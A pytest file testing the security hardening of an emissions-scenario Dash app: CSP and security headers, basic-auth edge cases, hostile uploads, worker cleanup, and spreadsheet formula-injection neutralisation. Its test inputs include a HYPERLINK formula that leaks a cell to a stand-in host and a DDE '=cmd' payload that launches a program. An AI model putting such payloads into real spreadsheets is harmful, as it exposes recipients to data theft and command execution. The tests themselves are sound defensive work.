"""The app under hostile use: headers, authentication, uploads, spreadsheet downloads, workers."""

from __future__ import annotations

import base64
import csv
import io
import os
import time
from pathlib import Path

import multiprocess
import openpyxl
import pandas as pd
import psutil
import pytest
from article6.app import downloads, scenarios, uploads
from article6.app.auth import PASSWORD_ENV, PASSWORD_FILE_ENV, BasicAuth, protect, read_password
from article6.app.main import create_app
from article6.app.panels.table4 import ID as T4
from browser_support import require_browser

from article6 import errors as E
from article6.errors import OptionError
from article6.io import spreadsheet

HOSTILE = Path(__file__).parent / "hostile_inputs"
TITLES = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
          "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.fixture(scope="module")
def app():
    return create_app(None, background=False)


def data_url(data: bytes) -> str:
    return "data:application/octet-stream;base64," + base64.b64encode(data).decode("ascii")


# --------------------------------------------------------------------------- headers


@pytest.mark.parametrize("path", ["/", "/_dash-layout", "/_dash-dependencies", "/assets/style.css"])
def test_every_response_carries_the_security_headers(app, path):
    r = app.server.test_client().get(path)
    assert r.status_code == 200
    csp = r.headers["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in csp.split(";") if d.strip())
    assert directives["default-src"] == "'self'"
    assert directives["script-src"].split() == ["'self'", *app.csp_hashes()]
    assert "'unsafe-eval'" not in csp and "'unsafe-inline'" not in directives["script-src"]
    assert directives["frame-ancestors"] == "'none'" and directives["object-src"] == "'none'"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"] == "no-referrer"


def test_the_refusal_of_authentication_carries_them_too(app):
    protected = create_app(None, background=False)
    protect(protected.server, "s3cret", "article6")
    r = protected.server.test_client().get("/")
    assert r.status_code == 401
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in r.headers["Content-Security-Policy"]


def test_csp_blocks_an_injected_script_and_dash_still_works(dash_duo):
    require_browser()
    dash_duo.start_server(create_app(None))
    dash_duo.wait_for_contains_text(f"#{T4.TABLE4}", "Cumulative", timeout=60)
    assert dash_duo.get_logs() == []  # the page, its graphs and callbacks run under the policy
    dash_duo.driver.execute_script(
        "var s = document.createElement('script'); s.textContent = 'window.__owned = 1;';"
        "document.body.appendChild(s);")
    assert dash_duo.driver.execute_script("return window.__owned === undefined;")
    logs: list = []
    deadline = time.monotonic() + 30
    while not logs and time.monotonic() < deadline:  # the browser reports the refusal
        logs = dash_duo.get_logs()
    assert logs and all("Content Security Policy" in entry["message"] for entry in logs)


# --------------------------------------------------------------------------- authentication


def _basic(user: str, pw: str, scheme: str = "Basic") -> str:
    return f"{scheme} " + base64.b64encode(f"{user}:{pw}".encode()).decode()


@pytest.mark.parametrize("scheme", ["Basic", "basic", "BASIC", "bAsIc"])
def test_the_auth_scheme_is_matched_case_insensitively(scheme):
    guard = BasicAuth(lambda env, start: [b"ok"], "s3cret", "article6")
    assert guard._ok(_basic("article6", "s3cret", scheme))
    assert guard._ok("  " + _basic("article6", "s3cret", scheme).replace(" ", "   ", 1))
    assert not guard._ok(_basic("article6", "wrong", scheme))
    assert not guard._ok(_basic("article6", "s3cret", "Bearer"))


@pytest.mark.parametrize("secret", [" ", "   ", "\t", " \t "])
def test_whitespace_only_secrets_are_refused(tmp_path, secret):
    with pytest.raises(OptionError, match=PASSWORD_ENV):
        read_password(None, environ={PASSWORD_ENV: secret})
    f = tmp_path / "pw"
    f.write_text(secret + "\n")
    with pytest.raises(OptionError, match="--password-file"):
        read_password(str(f), environ={})
    with pytest.raises(OptionError, match=PASSWORD_FILE_ENV):
        read_password(None, environ={PASSWORD_FILE_ENV: str(f)})
    with pytest.raises(OptionError):
        BasicAuth(lambda env, start: [b"ok"], secret)


def test_a_password_file_that_is_a_fifo_is_refused_without_waiting(tmp_path):
    fifo = tmp_path / "pw"
    os.mkfifo(fifo)
    with pytest.raises(OptionError, match="regular file"):
        read_password(str(fifo), environ={})


# --------------------------------------------------------------------------- background workers


def _noop() -> None:
    return None


def test_finished_background_workers_are_reaped(app):
    p = multiprocess.Process(target=_noop)  # as Dash's DiskcacheManager starts a callback
    p.start()
    proc = psutil.Process(p.pid)
    while proc.status() != psutil.STATUS_ZOMBIE:  # finished, not yet collected
        time.sleep(0.01)
    app.server.test_client().get("/_dash-layout")
    gone = not psutil.pid_exists(p.pid) or psutil.Process(p.pid).status() != psutil.STATUS_ZOMBIE
    assert gone, "a finished worker is left defunct"


# --------------------------------------------------------------------------- uploads


@pytest.mark.parametrize("path", sorted(HOSTILE.glob("*.toml")), ids=lambda p: p.stem)
def test_every_hostile_file_is_refused_through_the_upload_too(path):
    with pytest.raises(E.InputError) as info:
        uploads.doc_from_upload(data_url(path.read_bytes()), path.name,
                                scenarios.builtin_doc(scenarios.PAPER_ID))
    msg = str(info.value)
    assert msg.startswith(f"{path.name}: ") and "\n" not in msg and "\x1b" not in msg


CSV = b"year,trajectory_low,trajectory_high\n2021,600,610\n2022,590,600\n2023,580,590\n"


def test_a_csv_saved_with_a_byte_order_mark_is_read_as_without():
    current = scenarios.builtin_doc(scenarios.PAPER_ID)
    plain = uploads.doc_from_upload(data_url(CSV), "years.csv", current)
    bom = uploads.doc_from_upload(data_url(b"\xef\xbb\xbf" + CSV), "years.csv", current)
    assert plain == bom
    assert scenarios.scenario_of(bom).trajectory.low.tolist() == [600, 590, 580]


@pytest.mark.parametrize("csv_text, key", [
    (CSV + b"2022,5000,5000\n", "year (row 5)"),
    (CSV.replace(b"2022,", b"02022,"), "year (row 3)"),
    (CSV.replace(b"2022,", "٢٠٢٢,".encode()), "year (row 3)"),
])
def test_csv_years_are_four_ascii_digits_each_once(csv_text, key):
    with pytest.raises(E.YearError) as info:
        uploads.doc_from_upload(data_url(csv_text), "years.csv", scenarios.builtin_doc(scenarios.PAPER_ID))
    assert f"years.csv: {key}" in str(info.value)


# --------------------------------------------------------------------------- spreadsheet downloads


@pytest.mark.parametrize("title", TITLES)
def test_excel_download_writes_a_formula_title_as_inert_text(title):
    doc = scenarios.builtin_doc(scenarios.PAPER_ID)
    doc["scenario"] = {**doc["scenario"], "title": title.replace("\t", " ").replace("\r", " ")}
    wb = openpyxl.load_workbook(io.BytesIO(downloads.results_excel(doc)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = wb["scenario"]
    value = {r[0].value: r[1] for r in sheet.iter_rows(min_row=2)}["title"]
    assert value.value == doc["scenario"]["title"] and value.data_type == "s"
    assert value.quotePrefix == (spreadsheet.formula_safe(value.value) != value.value)


@pytest.mark.parametrize("text", TITLES)
def test_every_formula_start_gets_the_text_mark(text):
    assert spreadsheet.formula_safe(text) == "'" + text
    assert spreadsheet.formula_safe(1.5) == 1.5 and spreadsheet.formula_safe("Korea") == "Korea"


def test_csv_writer_neutralises_every_formula_start():
    titles = [t for t in TITLES if "\r" not in t]  # a bare CR inside a CSV field splits the row
    frame = pd.DataFrame({"text": [*titles, "plain", "Korea"], "number": range(len(titles) + 2)})
    rows = list(csv.reader(io.StringIO(spreadsheet.write_csv(frame, index=False))))
    for (text, number), original in zip(rows[1:], frame.itertuples(index=False), strict=True):
        assert number == str(original.number)  # numbers stay numbers
        if original.text in ("plain", "Korea"):
            assert text == original.text
        else:
            assert text == "'" + original.text


def test_iamc_writers_are_formula_safe(tmp_path):
    from article6.io import iamc

    model = "=cmd|' /C calc'!A0"
    df = pd.DataFrame({"model": [model], "scenario": ["s"], "region": ["KOR"],
                       "variable": ["Emissions|Kyoto Gases|Trajectory"], "unit": ["Mt CO2e/yr"],
                       "2030": [574.0]})
    iamc.write_csv(df, tmp_path / "x.csv")
    iamc.write_excel(df, tmp_path / "x.xlsx")
    first = next(csv.DictReader((tmp_path / "x.csv").open()))
    assert first["model"] == "'" + model and float(first["2030"]) == 574.0
    wb = openpyxl.load_workbook(tmp_path / "x.xlsx")
    cells = [c for row in wb["data"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert model in {c.value for c in cells} and 574.0 in {c.value for c in cells}
